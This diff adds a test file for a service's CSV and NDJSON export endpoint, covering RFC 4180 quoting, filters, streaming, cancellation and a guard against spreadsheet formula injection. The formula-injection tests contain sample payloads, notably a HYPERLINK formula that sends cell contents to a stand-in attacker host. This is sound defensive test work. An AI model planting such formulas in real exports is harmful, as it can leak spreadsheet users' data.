@@ -1,0 +1,531 @@
+// GET /api/export and the pure export functions: CSV (RFC 4180, formula-injection safe) and
+// NDJSON (lossless), same filters as GET /api/installs, streamed, closed on cancel.
+import { describe, expect, test } from "bun:test";
+import { createApp } from "../src/app.ts";
+import { createLogger } from "../src/ops/log.ts";
+import { CONTENT_TYPES, EXPORT_COLUMNS, csvHeader, csvRow, exportFilename, exportStream, ndjsonLine } from "../src/report/export.ts";
+import { exportRoutes } from "../src/report/export-routes.ts";
+import { InstallRecord, toRecord } from "../src/report/record.ts";
+import type { InstallRow } from "../src/store/schema.ts";
+import type { StoreReads, WriteOp } from "../src/store/store.ts";
+import { startReport, testApp } from "./helpers/app.ts";
+
+/** DESIGN.md section 3, in order. */
+const DESIGN_FIELDS = [
+  "random_id", "type", "ct_type", "disk_size", "core_count", "ram_size", "os_type", "os_version",
+  "disableip6", "nsapp", "method", "pve_version", "status", "outcome", "error", "created_at",
+  "updated_at", "duration_s", "repaired",
+];
+
+const HOUR = 3_600_000;
+const DAY = 24 * HOUR;
+
+/** The test app with the export plugin mounted on the full app (so QueryError and validation answer 422 as in production). */
+function setup(store?: (t: ReturnType<typeof testApp>) => StoreReads) {
+  const t = testApp();
+  const log = createLogger("error", () => {}, t.clock);
+  const app = createApp({ config: t.config, store: t.store, writer: t.writer, clock: t.clock, version: "0.0.0-test", log }).use(
+    exportRoutes({ store: store ? store(t) : t.store, clock: t.clock }),
+  );
+  const exportRes = (qs = "") => app.handle(new Request(`http://localhost/api/export${qs}`));
+  const exportText = async (qs = "") => {
+    const res = await exportRes(qs);
+    expect(res.status).toBe(200);
+    return res.text();
+  };
+  return { ...t, exportApp: app, exportRes, exportText };
+}
+
+/** A strict RFC 4180 parser: CRLF record ends, quotes only around whole fields, every record terminated. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let i = 0;
+  while (i < text.length) {
+    if (text[i] === '"' && field === "") {
+      // A quoted field: up to the closing quote; "" inside is one quote.
+      i++;
+      for (;;) {
+        if (i >= text.length) throw new Error("unterminated quoted field");
+        if (text[i] === '"') {
+          if (text[i + 1] === '"') {
+            field += '"';
+            i += 2;
+            continue;
+          }
+          i++;
+          break;
+        }
+        field += text[i++];
+      }
+      if (text[i] !== "," && text.slice(i, i + 2) !== "\r\n") throw new Error(`text after a closing quote at ${i}`);
+      if (field === "") field = '""'; // keep quoted-empty apart from an empty cell, for the null/"" check
+      continue;
+    }
+    const c = text[i]!;
+    if (c === ",") {
+      row.push(field === '""' ? "" : field);
+      field = "";
+      i++;
+    } else if (c === "\r" && text[i + 1] === "\n") {
+      row.push(field === '""' ? "" : field);
+      rows.push(row);
+      row = [];
+      field = "";
+      i += 2;
+    } else if (c === '"' || c === "\r" || c === "\n") {
+      throw new Error(`bare ${JSON.stringify(c)} in an unquoted field at ${i}`);
+    } else {
+      field += c;
+      i++;
+    }
+  }
+  if (field !== "" || row.length > 0) throw new Error("the last record is not CRLF-terminated");
+  return rows;
+}
+
+/** A record's fields as a CSV reader sees them (no injection-prone values). */
+const asCells = (r: Record<string, unknown>) => DESIGN_FIELDS.map((k) => (r[k] === null ? "" : String(r[k])));
+
+const parseNdjson = (text: string) => {
+  expect(text === "" || text.endsWith("\n")).toBe(true);
+  return text === "" ? [] : text.slice(0, -1).split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);
+};
+
+function row(fields: Partial<InstallRow> = {}): InstallRow {
+  return {
+    randomId: "r-1", type: "lxc", ctType: 1, diskSize: 8, coreCount: 2, ramSize: 2048, osType: "debian", osVersion: "12",
+    disableip6: "yes", nsapp: "adguard", method: "default", pveVersion: "8.2.2", status: "done", outcome: "success",
+    error: null, createdAt: Date.parse("2026-06-01T12:00:00Z"), updatedAt: Date.parse("2026-06-01T12:01:30Z"),
+    durationMs: 90_000, repaired: false, ...fields,
+  };
+}
+
+const cellOf = (record: InstallRecord, field: string) => {
+  const [header, cells] = parseCsv(csvHeader() + csvRow(record));
+  return cells![header!.indexOf(field)]!;
+};
+
+/** Start ops written straight to the store (much faster than HTTP for thousands of rows). */
+function seedRows(write: (ops: WriteOp[]) => unknown, n: number, at: number) {
+  const ops: WriteOp[] = [];
+  for (let i = 0; i < n; i++) {
+    ops.push({
+      kind: "start", raw: new Uint8Array(), repairs: [], at: at + i,
+      report: {
+        randomId: `seed-${i}`, type: "lxc", ctType: 1, diskSize: 8, coreCount: 2, ramSize: 2048, osType: "debian", osVersion: "12",
+        disableip6: null, nsapp: "seeded", method: "default", pveVersion: "8.2.2", status: "installing", outcome: "in_progress", error: null,
+      },
+    });
+  }
+  write(ops);
+}
+
+async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ chunks: number; text: string }> {
+  let chunks = 0;
+  let text = "";
+  const decoder = new TextDecoder();
+  for await (const chunk of stream) {
+    chunks++;
+    text += decoder.decode(chunk, { stream: true });
+  }
+  return { chunks, text: text + decoder.decode() };
+}
+
+describe("pure formatting", () => {
+  test("the columns are the record's fields in DESIGN.md order, and the CSV header names them", () => {
+    expect(EXPORT_COLUMNS).toEqual(DESIGN_FIELDS as typeof EXPORT_COLUMNS);
+    expect(Object.keys(InstallRecord.properties)).toEqual(DESIGN_FIELDS);
+    expect(Object.keys(toRecord(row()))).toEqual(DESIGN_FIELDS);
+    expect(csvHeader()).toBe(`${DESIGN_FIELDS.join(",")}\r\n`);
+  });
+
+  test("csvRow: null empty, booleans true/false, numbers as is, quoting only where needed", () => {
+    const record = toRecord(row({ diskSize: 0.5, ctType: null, error: 'he said "no", then\nleft\r\nagain', repaired: true, durationMs: null, osVersion: "" }));
+    const line = csvRow(record);
+    expect(line).toBe(
+      'r-1,lxc,,0.5,2,2048,debian,"",yes,adguard,default,8.2.2,done,success,"he said ""no"", then\nleft\r\nagain",' +
+        "2026-06-01T12:00:00.000Z,2026-06-01T12:01:30.000Z,,true\r\n",
+    );
+    expect(csvRow(toRecord(row()))).toEndWith(",90,false\r\n");
+    // Parses back to the fields.
+    const [, cells] = parseCsv(csvHeader() + line);
+    expect(cells).toEqual(asCells(record));
+  });
+
+  test("formula-injection guard: a text cell starting with = + - @ TAB CR gets a leading quote", () => {
+    const cases: [string, string][] = [
+      ['=HYPERLINK("http://evil.example","click")', `'=HYPERLINK("http://evil.example","click")`],
+      ["+1", "'+1"],
+      ["-2+3", "'-2+3"],
+      ["@SUM(1)", "'@SUM(1)"],
+      ["\tcmd", "'\tcmd"],
+      ["\rcmd", "'\rcmd"],
+      ["=1+1\n=2", "'=1+1\n=2"],
+    ];
+    for (const field of ["nsapp", "error", "method", "random_id", "os_version", "status"] as const) {
+      for (const [value, shown] of cases) {
+        const key = ({ nsapp: "nsapp", error: "error", method: "method", random_id: "randomId", os_version: "osVersion", status: "status" } as const)[field];
+        const record = toRecord(row({ [key]: value }));
+        expect(cellOf(record, field)).toBe(shown);
+      }
+    }
+    // Only the first character counts, and harmless texts are untouched.
+    for (const value of ["a=b", "exit code -1", "x+y", "user@host", " =not a formula? spreadsheets trim; ours never start with a space"]) {
+      expect(cellOf(toRecord(row({ error: value })), "error")).toBe(value);
+    }
+    // The raw line: a CR-led cell is quoted (it contains CR) after the guard.
+    expect(csvRow(toRecord(row({ nsapp: "\rX" })))).toContain(`,"'\rX",`);
+  });
+
+  test("numeric columns are never guarded: a negative number stays a number", () => {
+    const record = toRecord(row({ diskSize: -1.5, ramSize: -2048, durationMs: -1000 }));
+    expect(cellOf(record, "disk_size")).toBe("-1.5");
+    expect(cellOf(record, "ram_size")).toBe("-2048");
+    expect(cellOf(record, "duration_s")).toBe("-1");
+  });
+
+  test("ndjsonLine is the record as JSON, one line, newline-terminated, lossless", () => {
+    const record = toRecord(row({ error: 'quote " comma , newline \n CR \r tab \t =1+1 日本語 🚀 \u2028', nsapp: "=HYPERLINK(1)" }));
+    const line = ndjsonLine(record);
+    expect(line.endsWith("\n")).toBe(true);
+    expect(line.slice(0, -1)).not.toContain("\n");
+    expect(JSON.parse(line)).toEqual(record);
+    expect(Object.keys(JSON.parse(line))).toEqual(DESIGN_FIELDS);
+  });
+
+  test("exportFilename is a UTC timestamp without colons", () => {
+    expect(exportFilename(Date.parse("2026-06-01T12:34:56.789Z"), "csv")).toBe("installstats-20260601T123456Z.csv");
+    expect(exportFilename(Date.parse("2026-06-01T12:34:56Z"), "ndjson")).toBe("installstats-20260601T123456Z.ndjson");
+  });
+});
+
+describe("exportStream", () => {
+  const rows = (n: number) => Array.from({ length: n }, (_, i) => row({ randomId: `r-${i}`, createdAt: i }));
+
+  test("one chunk per chunkRows rows, header first, everything once and in order", async () => {
+    const csv = await readAll(exportStream(rows(10), "csv", 3));
+    expect(csv.chunks).toBe(4);
+    expect(csv.text).toBe(csvHeader() + rows(10).map((r) => csvRow(toRecord(r))).join(""));
+    const nd = await readAll(exportStream(rows(9), "ndjson", 3));
+    expect(nd.chunks).toBe(3);
+    expect(nd.text).toBe(rows(9).map((r) => ndjsonLine(toRecord(r))).join(""));
+  });
+
+  test("no rows: the header alone (csv), nothing (ndjson)", async () => {
+    expect(await readAll(exportStream([], "csv", 5))).toEqual({ chunks: 1, text: csvHeader() });
+    expect(await readAll(exportStream([], "ndjson", 5))).toEqual({ chunks: 0, text: "" });
+  });
+
+  test("pull-based: rows are read only as the consumer reads, never the whole source ahead", async () => {
+    let produced = 0;
+    let closed = false;
+    function* source() {
+      try {
+        for (let i = 0; i < 1_000_000; i++) {
+          produced++;
+          yield row({ randomId: `r-${i}` });
+        }
+      } finally {
+        closed = true;
+      }
+    }
+    const reader = exportStream(source(), "ndjson", 100).getReader();
+    await reader.read();
+    await Bun.sleep(5);
+    // The chunk read plus at most one queued ahead (the stream's high-water mark).
+    expect(produced).toBeLessThanOrEqual(200);
+    expect(closed).toBe(false);
+    await reader.cancel();
+    expect(closed).toBe(true);
+  });
+
+  test("an error from the source errors the stream and closes the source", async () => {
+    let closed = false;
+    function* source() {
+      try {
+        yield row();
+        throw new Error("disk on fire");
+      } finally {
+        closed = true;
+      }
+    }
+    await expect(readAll(exportStream(source(), "csv", 10))).rejects.toThrow("disk on fire");
+    expect(closed).toBe(true);
+  });
+
+  test("chunkRows must be a positive integer", () => {
+    expect(() => exportStream([], "csv", 0)).toThrow(RangeError);
+    expect(() => exportStream([], "csv", 1.5)).toThrow(RangeError);
+  });
+});
+
+describe("GET /api/export", () => {
+  /** Records with the awkward values real clients send, each at its own time (oldest first). */
+  async function seedAwkward(t: ReturnType<typeof setup>) {
+    const ids: string[] = [];
+    const start = async (id: string, fields: Record<string, unknown> = {}, drop: string[] = []) => {
+      const body: Record<string, unknown> = startReport(id, fields);
+      for (const k of drop) delete body[k];
+      expect((await t.post("/upload", body)).status).toBe(201);
+      ids.push(id);
+      t.clock.advance(60_000);
+    };
+    const update = async (id: string, status: string, error: string) => {
+      expect((await t.post("/upload/updatestatus", { status, error, random_id: id })).status).toBe(200);
+      t.clock.advance(60_000);
+    };
+    await start("a-quotes", { nsapp: "jellyfin" });
+    await update("a-quotes", "failed", 'apt-get said "E: unable", exit 100, see log');
+    await start("b-newlines", { nsapp: "jellyfin", type: "vm", ct_type: 2, disableip6: "" });
+    await update("b-newlines", "failed", "line one\nline two, with comma\r\nline three\ttabbed");
+    await start("c-unicode", { nsapp: "home assistant", os_type: "ubuntu", os_version: "24.04" });
+    await update("c-unicode", "failed", "Fehler: Größe ✓ 日本語 🚀 «quoted» \\ backslash");
+    await start("d-nulls", { disk_size: "" }, ["disableip6", "method", "os_version"]);
+    await start("e-done", { nsapp: "jellyfin", disk_size: "32G" });
+    await update("e-done", "done", "none");
+    await start('f-id,with"quote', { nsapp: "pihole" });
+    return ids;
+  }
+
+  const recordOf = async (t: ReturnType<typeof setup>, id: string) => {
+    const res = await t.get(`/api/installs/${encodeURIComponent(id)}`);
+    expect(res.status).toBe(200);
+    return res.body;
+  };
+
+  test("NDJSON round trip: every line equals GET /api/installs/{id}, oldest first", async () => {
+    const t = setup();
+    const ids = await seedAwkward(t);
+    const lines = parseNdjson(await t.exportText("?format=ndjson"));
+    expect(lines.map((r) => r.random_id)).toEqual(ids);
+    for (const line of lines) {
+      const expected = await recordOf(t, line.random_id as string);
+      expect(line).toEqual(expected);
+      expect(Object.keys(line)).toEqual(DESIGN_FIELDS);
+    }
+    // The awkward values really are in there.
+    expect(lines[0]!.error).toContain('"E: unable", exit 100');
+    expect(lines[1]!.error).toContain("\n");
+    expect(lines[2]!.error).toContain("日本語 🚀");
+    expect(lines[3]).toMatchObject({ disk_size: null, disableip6: null, method: null, os_version: null, error: null, duration_s: null });
+  });
+
+  test("CSV round trip: a strict RFC 4180 parse gives back every field as text", async () => {
+    const t = setup();
+    const ids = await seedAwkward(t);
+    const text = await t.exportText("?format=csv");
+    const [header, ...rows] = parseCsv(text);
+    expect(header).toEqual(DESIGN_FIELDS);
+    expect(rows.map((r) => r[0])).toEqual(ids);
+    for (const r of rows) expect(r).toEqual(asCells(await recordOf(t, r[0]!)));
+    // Newlines inside error texts are kept, inside quotes; records end in CRLF.
+    expect(rows[1]![DESIGN_FIELDS.indexOf("error")]).toContain("line one\nline two, with comma");
+  });
+
+  test("CSV cells are guarded against formula injection; NDJSON keeps the values as they are", async () => {
+    const t = setup();
+    const payloads = { hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")', plus: "+1", minus: "-2+3", at: "@SUM(1)" };
+    await t.post("/upload", startReport("inj-1", { nsapp: payloads.hyperlink, method: payloads.plus }));
+    await t.post("/upload/updatestatus", { status: "failed", error: payloads.minus, random_id: "inj-1" });
+    t.clock.advance(1000);
+    await t.post("/upload", startReport("inj-2", { nsapp: payloads.at, method: payloads.minus, os_version: payloads.plus }));
+    await t.post("/upload/updatestatus", { status: "failed", error: payloads.at, random_id: "inj-2" });
+
+    const [header, one, two] = parseCsv(await t.exportText("?format=csv"));
+    const cell = (r: string[] | undefined, field: string) => r![header!.indexOf(field)];
+    expect(cell(one, "nsapp")).toBe(`'${payloads.hyperlink}`);
+    expect(cell(one, "method")).toBe("'+1");
+    expect(cell(one, "error")).toBe("'-2+3");
+    expect(cell(two, "nsapp")).toBe("'@SUM(1)");
+    expect(cell(two, "method")).toBe("'-2+3");
+    expect(cell(two, "os_version")).toBe("'+1");
+    expect(cell(two, "error")).toBe("'@SUM(1)");
+    // No cell of the export starts a formula.
+    for (const r of [one!, two!]) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+
+    const [n1, n2] = parseNdjson(await t.exportText("?format=ndjson"));
+    expect(n1).toMatchObject({ nsapp: payloads.hyperlink, method: "+1", error: "-2+3" });
+    expect(n2).toMatchObject({ nsapp: "@SUM(1)", method: "-2+3", os_version: "+1", error: "@SUM(1)" });
+  });
+
+  test("the filters of GET /api/installs apply, with the same results", async () => {
+    const t = setup();
+    // Three days, mixed apps, types and outcomes.
+    const plan = [
+      { id: "d1-a", day: 0, nsapp: "jellyfin", type: "lxc", final: "done" },
+      { id: "d1-b", day: 0, nsapp: "pihole", type: "vm", final: "failed" },
+      { id: "d2-a", day: 1, nsapp: "jellyfin", type: "lxc", final: "failed" },
+      { id: "d2-b", day: 1, nsapp: "jellyfin", type: "lxc", final: null },
+      { id: "d3-a", day: 2, nsapp: "pihole", type: "lxc", final: "done" },
+      { id: "d3-b", day: 2, nsapp: "jellyfin", type: "vm", final: "failed" },
+    ];
+    const origin = t.clock(); // 2026-06-01T12:00Z
+    for (const [i, p] of plan.entries()) {
+      t.clock.advance(origin + p.day * DAY + HOUR + i * 60_000 - t.clock()); // 13:0i on its day
+      await t.post("/upload", startReport(p.id, { nsapp: p.nsapp, type: p.type, ct_type: p.type === "vm" ? 2 : 1 }));
+      if (p.final) await t.post("/upload/updatestatus", { status: p.final, error: p.final === "failed" ? `exit ${p.id}` : "none", random_id: p.id });
+    }
+    const cases: [string, string[]][] = [
+      ["", plan.map((p) => p.id)],
+      ["nsapp=jellyfin", ["d1-a", "d2-a", "d2-b", "d3-b"]],
+      ["outcome=failed", ["d1-b", "d2-a", "d3-b"]],
+      ["outcome=failed&nsapp=jellyfin", ["d2-a", "d3-b"]],
+      ["type=vm", ["d1-b", "d3-b"]],
+      ["status=installing", ["d2-b"]],
+      ["from=2026-06-02&to=2026-06-02", ["d2-a", "d2-b"]],
+      ["from=2026-06-02T00:00:00Z", ["d2-a", "d2-b", "d3-a", "d3-b"]],
+      ["days=1", ["d3-a", "d3-b"]],
+      ["q=exit d2", ["d2-a"]],
+      ["nsapp=nothing-like-this", []],
+    ];
+    for (const [qs, expected] of cases) {
+      const list = await t.get(`/api/installs?limit=500&${qs}`);
+      const listed = (list.body.installs as { random_id: string }[]).map((r) => r.random_id).reverse();
+      const nd = parseNdjson(await t.exportText(`?format=ndjson&${qs}`)).map((r) => r.random_id);
+      const [, ...csvRows] = parseCsv(await t.exportText(`?format=csv&${qs}`));
+      expect({ qs, ids: nd }).toEqual({ qs, ids: expected });
+      expect({ qs, ids: listed }).toEqual({ qs, ids: expected });
+      expect({ qs, ids: csvRows.map((r) => r[0]) }).toEqual({ qs, ids: expected });
+    }
+  });
+
+  test("an empty result is the header alone (csv) and an empty body (ndjson)", async () => {
+    const t = setup();
+    expect(await t.exportText("?format=csv")).toBe(csvHeader());
+    expect(await t.exportText("?format=ndjson")).toBe("");
+    await t.post("/upload", startReport("x"));
+    expect(await t.exportText("?format=csv&nsapp=none")).toBe(csvHeader());
+    expect(await t.exportText("?format=ndjson&nsapp=none")).toBe("");
+  });
+
+  test("headers: content type per format, attachment with a UTC-stamped file name; csv by default", async () => {
+    const t = setup();
+    for (const [qs, type, ext] of [["?format=csv", CONTENT_TYPES.csv, "csv"], ["?format=ndjson", CONTENT_TYPES.ndjson, "ndjson"], ["", CONTENT_TYPES.csv, "csv"]] as const) {
+      const res = await t.exportRes(qs);
+      expect(res.status).toBe(200);
+      expect(res.headers.get("content-type")).toBe(type);
+      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="installstats-20260601T120000Z.${ext}"`);
+      expect(res.body).toBeInstanceOf(ReadableStream);
+      await res.text();
+    }
+    expect(CONTENT_TYPES).toEqual({ csv: "text/csv; charset=utf-8", ndjson: "application/x-ndjson" });
+    expect(await t.exportText("")).toBe(csvHeader());
+  });
+
+  test("bad parameters answer 422 before any export starts", async () => {
+    const t = setup();
+    for (const [qs, field] of [["?format=xlsx", "format"], ["?from=yesterday", "from"], ["?days=3&from=2026-01-01", "days"], ["?outcome=great", "outcome"], ["?from=2026-06-02&to=2026-06-01", "from"]] as const) {
+      const res = await t.exportRes(qs);
+      expect({ qs, status: res.status }).toEqual({ qs, status: 422 });
+      expect(await res.json()).toMatchObject({ error: "invalid_field", field });
+    }
+  });
+
+  test("the route is in the OpenAPI document with both content types", async () => {
+    const t = setup();
+    const spec = (await (await t.exportApp.handle(new Request("http://localhost/openapi/json"))).json()) as any;
+    const op = spec.paths["/api/export"]?.get;
+    expect(op.tags).toEqual(["installs"]);
+    expect(op.summary).toBeString();
+    expect(op.description).toContain("lossless");
+    expect(Object.keys(op.responses[200].content)).toEqual([CONTENT_TYPES.csv, CONTENT_TYPES.ndjson]);
+    expect(op.parameters.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(["format", "nsapp", "outcome", "from", "to", "days", "q"]));
+  });
+});
+
+describe("cancellation", () => {
+  /** The real store, with iterateInstalls wrapped to count opened and closed iterators. */
+  function tracking(t: ReturnType<typeof testApp>) {
+    const counts = { opened: 0, closed: 0 };
+    const store: StoreReads = Object.assign(Object.create(t.store) as StoreReads, {
+      *iterateInstalls(filter: Parameters<StoreReads["iterateInstalls"]>[0]) {
+        counts.opened++;
+        try {
+          yield* t.store.iterateInstalls(filter); // return() reaches the store's iterator, which finalizes its statement
+        } finally {
+          counts.closed++;
+        }
+      },
+    });
+    return { store, counts };
+  }
+
+  test("a cancelled export closes the store's iterator; the database is fully usable after", async () => {
+    let tracked!: ReturnType<typeof tracking>;
+    const t = setup((base) => (tracked = tracking(base)).store);
+    seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);
+
+    const res = await t.exportRes("?format=ndjson");
+    const reader = res.body!.getReader();
+    const first = await reader.read();
+    expect(first.done).toBe(false);
+    expect(tracked.counts).toEqual({ opened: 1, closed: 0 });
+
+    await reader.cancel();
+    expect(tracked.counts).toEqual({ opened: 1, closed: 1 });
+    // No statement left in progress: SQLite refuses a VACUUM while one is.
+    expect(() => t.sqlite.run("VACUUM")).not.toThrow();
+    expect((await t.post("/upload", startReport("after-cancel"))).status).toBe(201);
+    // And the same export runs again, whole.
+    expect(parseNdjson(await t.exportText("?format=ndjson"))).toHaveLength(5001);
+  });
+
+  test("the VACUUM check above would catch a statement left open", () => {
+    const t = testApp();
+    const open = t.sqlite.prepare("SELECT 1 UNION ALL SELECT 2").iterate();
+    open.next();
+    expect(() => t.sqlite.run("VACUUM")).toThrow(/statements in progress/);
+    open.return?.();
+    expect(() => t.sqlite.run("VACUUM")).not.toThrow();
+  });
+
+  test("over HTTP, a client that goes away cancels the export", async () => {
+    // An endless source: only a cancel can end it.
+    const counts = { pulled: 0, closed: 0 };
+    const t = setup((base) =>
+      Object.assign(Object.create(base.store) as StoreReads, {
+        *iterateInstalls() {
+          try {
+            for (let i = 0; ; i++) {
+              counts.pulled++;
+              yield row({ randomId: `endless-${i}`, error: "x".repeat(200) });
+            }
+          } finally {
+            counts.closed++;
+          }
+        },
+      }),
+    );
+    const server = Bun.serve({ port: 0, fetch: (req) => t.exportApp.fetch(req) });
+    try {
+      const abort = new AbortController();
+      const res = await fetch(`http://127.0.0.1:${server.port}/api/export?format=csv`, { signal: abort.signal });
+      expect(res.status).toBe(200);
+      const reader = res.body!.getReader();
+      for (let got = 0; got < 1_000_000; ) {
+        const { value } = await reader.read();
+        got += value!.byteLength;
+      }
+      abort.abort();
+      for (let i = 0; i < 200 && counts.closed === 0; i++) await Bun.sleep(10);
+      expect(counts.closed).toBe(1);
+      // Nothing is read after the close.
+      const pulled = counts.pulled;
+      await Bun.sleep(50);
+      expect(counts.pulled).toBe(pulled);
+    } finally {
+      server.stop(true);
+    }
+  });
+
+  test("two concurrent exports with the same filters both complete", async () => {
+    const t = setup();
+    seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);
+    const [a, b] = await Promise.all([t.exportRes("?format=ndjson"), t.exportRes("?format=ndjson")]);
+    const [ta, tb] = await Promise.all([a.text(), b.text()]);
+    expect(parseNdjson(ta)).toHaveLength(5000);
+    expect(tb).toBe(ta);
+  });
+});
